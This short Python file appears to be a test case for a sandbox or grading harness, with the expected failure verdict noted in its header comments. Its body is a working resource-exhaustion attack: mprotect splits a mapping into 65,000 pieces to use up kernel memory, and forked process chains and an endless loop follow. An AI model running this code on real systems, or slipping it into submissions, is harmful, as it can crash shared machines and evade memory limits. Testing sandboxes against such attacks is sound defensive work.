# Splits a mapping into 65,000 and forks chains of processes: the kernel keeps gigabytes, the processes next to nothing.
# loses: 2
# told: used more than 512 MB | did not return within {CALL_TIMEOUT_SECONDS:g} s
import ctypes
import os
import time

PAGE, MAPS = 4096, 65000


def leakage_count(n, affine):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    for _ in range(3):
        if os.fork() == 0:
            start = libc.mmap(None, MAPS * PAGE, 3, 0x4022, -1, 0)
            ctypes.memset(start, 1, 1)
            for number in range(0, MAPS, 2):
                libc.mprotect(start + number * PAGE, PAGE, 1)
            while os.fork() == 0:
                pass
            time.sleep(60)
    while True:
        pass
